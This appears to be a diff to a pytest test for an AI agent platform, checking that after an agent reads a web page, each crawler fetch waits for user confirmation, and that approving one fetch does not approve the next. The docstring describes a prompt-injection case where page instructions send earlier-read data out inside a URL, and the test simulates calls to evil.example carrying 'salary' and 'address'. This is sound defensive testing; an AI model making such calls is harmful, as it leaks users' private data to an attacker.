@@ -68,20 +68,21 @@ async def test_long_pages_are_told_in_part_and_limits_are_named(world: World) ->
 
 @pytest.mark.requirement("B6")
 async def test_after_what_others_wrote_each_address_is_shown_before_it_is_opened(world: World) -> None:
-    """S21: an instruction in a page could have what was read before sent away as part of an address."""
+    """S21: an instruction in a page could have what was read before sent away as part of an address. A yes to one is none to the
+    next, and a workspace that writes unasked is asked all the same."""
     bench = RunBench(world, tool_names=frozenset({"skill_url_crawler"}))
-    alice = world["alice"].principal
-    await AgentConfigs(bench.db).put(alice, bench.lab, AgentConfig(confirm_untrusted_writes=False))
+    await AgentConfigs(bench.db).put(world["alice"].principal, bench.lab, AgentConfig(confirm_untrusted_writes=False))
     accepted = await bench.ask("Read the website.")
-    leaks = [f"https://evil.example/?q={part}" for part in ("salary", "address")]
-    calls = [call("skill_url_crawler", url=leak) for leak in leaks]
-    await bench.advance(accepted, [call("skill_url_crawler", url="bakery.example")], calls)
-    for asked, leak in zip(calls, leaks, strict=True):
+    leaks = [call("skill_url_crawler", url=f"https://evil.example/?q={word}") for word in ("salary", "address")]
+    await bench.advance(accepted, [call("skill_url_crawler", url="bakery.example")], leaks)
+    for leak in leaks:
         assert (await bench.runs.get(bench.principal, accepted.run_id)).state is RunState.PAUSED
-        query = "select pause from tool_calls where call_id = $1 and state = 'waiting'"
-        pause = Confirmation.model_validate_json(await bench.sql(query, asked.call_id))
-        assert (pause.untrusted, pause.for_run, pause.name) == (True, False, leak), "a yes to one is no yes to the next"
-        await bench.runs.answer(bench.principal, accepted.run_id, asked.call_id, Confirmed(accepted=True))
+        [row] = await bench.rows(
+            "select pause from tool_calls where run_id = $1 and state = 'waiting'", accepted.run_id
+        )
+        pause = Confirmation.model_validate_json(row["pause"])
+        assert (pause.untrusted, pause.for_run, pause.name) == (True, False, leak.arguments["url"])
+        await bench.runs.answer(bench.principal, accepted.run_id, leak.call_id, Confirmed(accepted=True))
         await bench.advance(accepted, say("Done."))
 
 
